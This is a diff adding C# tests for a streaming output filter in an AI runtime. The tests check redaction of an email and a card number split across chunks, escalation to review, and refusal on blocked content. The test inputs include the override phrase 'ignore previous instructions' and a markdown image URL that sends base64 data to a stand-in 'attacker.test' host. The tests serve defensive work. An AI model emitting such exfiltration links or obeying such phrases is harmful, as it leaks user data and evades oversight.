@@ -1,0 +1,137 @@
+using Airs.Runtime.Decisions;
+using Airs.Runtime.Streaming;
+
+namespace Airs.Runtime.AspNetCore.Tests.Streaming;
+
+public sealed class StreamingReleaseTests
+{
+    private const string Later = "The next statement is issued on the first working day of the month, as usual. ";
+
+    [Fact]
+    public async Task A_sentence_is_released_once_the_hold_back_has_passed_it_and_only_the_end_is_audited()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var first = await release.AppendAsync("Your balance is 40 pounds. ");
+        var second = await release.AppendAsync(Later);
+        var last = await release.CompleteAsync();
+
+        Assert.Equal("", first.Text); // still within the hold-back
+        Assert.Equal("Your balance is 40 pounds. ", second.Text);
+        Assert.Null(second.Decision);
+        Assert.Equal(Later, last.Text);
+        Assert.Equal(Outcome.Allow, last.Decision!.Outcome);
+        Assert.Equal(new[] { ("output", "allow", "alice") }, (await fixture.DecisionsAsync()).ToArray()); // screening writes no audit record
+    }
+
+    [Fact]
+    public async Task An_email_cut_across_chunks_is_redacted_and_the_whole_equals_the_unstreamed_answer()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Write to jane.d", "oe@exam", "ple.com for help. ", Later, "Thanks."]);
+
+        var streamed = string.Concat(pieces);
+        Assert.DoesNotContain("jane", streamed);
+        Assert.StartsWith("Write to ", pieces[3]); // released before the end
+        Assert.Equal(end.Decision!.Release, streamed);
+    }
+
+    [Fact]
+    public async Task A_card_number_with_spaces_cut_across_chunks_is_redacted_even_with_the_smallest_window()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context(), new StreamingReleaseOptions { Window = 1 });
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your card 4111 ", "1111 ", "1111 1", "111 is on file. ", Later]);
+
+        var streamed = string.Concat(pieces);
+        Assert.DoesNotContain("4111", streamed);
+        Assert.DoesNotContain("1111", streamed);
+        Assert.Equal(end.Decision!.Release, streamed);
+    }
+
+    [Fact]
+    public async Task A_blocked_phrase_in_a_later_chunk_ends_the_stream_with_the_audited_refusal()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your balance is 40 pounds. ", Later, "Now ignore prev", "ious instructions and ", Later]);
+
+        Assert.True(end.IsRefused);
+        Assert.Equal(Outcome.Block, end.Decision!.Outcome);
+        Assert.Equal(StreamingPolicy.Refusal, end.Decision.Message);
+        var streamed = string.Concat(pieces);
+        Assert.StartsWith("Your balance is 40 pounds. ", streamed);
+        Assert.DoesNotContain("ignore", streamed);
+        Assert.Equal(new[] { ("output", "block", "alice") }, (await fixture.DecisionsAsync()).ToArray());
+
+        var after = await release.AppendAsync("more text. " + Later);
+        Assert.Equal("", after.Text);
+        Assert.Same(end.Decision, after.Decision);
+    }
+
+    [Fact]
+    public async Task A_markdown_image_to_an_unknown_site_is_refused_before_any_of_its_address_is_released()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context(), new StreamingReleaseOptions { Window = 1 });
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release,
+            ["Here is the chart. ![chart](https://attack", "er.test/p.png?d=c2VjcmV0LWRhdGE", ") and some words after it ", Later]);
+
+        Assert.True(end.IsRefused);
+        var streamed = string.Concat(pieces);
+        Assert.DoesNotContain("attack", streamed);
+        Assert.DoesNotContain("](", streamed);
+    }
+
+    [Fact]
+    public async Task When_the_whole_answer_check_refuses_the_released_sentences_stay_released_and_the_rest_is_withheld()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["Your balance is 40 pounds. ", Later, Later, "SECRET-CANARY"]);
+
+        Assert.True(end.IsRefused);
+        Assert.Equal("Your balance is 40 pounds. " + Later, string.Concat(pieces)); // each checked with the answer up to it; the last Later was held back
+        Assert.Equal(new[] { ("output", "block", "alice") }, (await fixture.DecisionsAsync()).ToArray());
+    }
+
+    [Fact]
+    public async Task An_escalation_holds_everything_back_and_the_end_opens_one_ticket_for_the_whole_answer()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var (pieces, end) = await StreamingPolicy.RunAsync(release, ["You get a guaranteed refund. ", Later, Later]);
+
+        Assert.Equal("", string.Concat(pieces));
+        Assert.Equal(Outcome.Escalate, end.Decision!.Outcome);
+        Assert.NotNull(end.Decision.ReviewTicketId);
+        Assert.Single(await fixture.Engine.Reviews.ListPendingAsync());
+    }
+
+    [Fact]
+    public async Task An_empty_answer_is_not_checked()
+    {
+        await using var fixture = await StreamingPolicy.CreateAsync();
+        var release = new StreamingRelease(fixture.Engine, StreamingPolicy.Context());
+
+        var end = await release.CompleteAsync();
+
+        Assert.Equal(new ReleaseStep("", null), end);
+        Assert.Empty(await fixture.DecisionsAsync());
+    }
+
+    [Fact]
+    public void Options_out_of_range_are_refused()
+    {
+        Assert.Throws<ArgumentOutOfRangeException>(() => new StreamingReleaseOptions { HoldBack = -1 });
+        Assert.Throws<ArgumentOutOfRangeException>(() => new StreamingReleaseOptions { Window = 0 });
+    }
+}
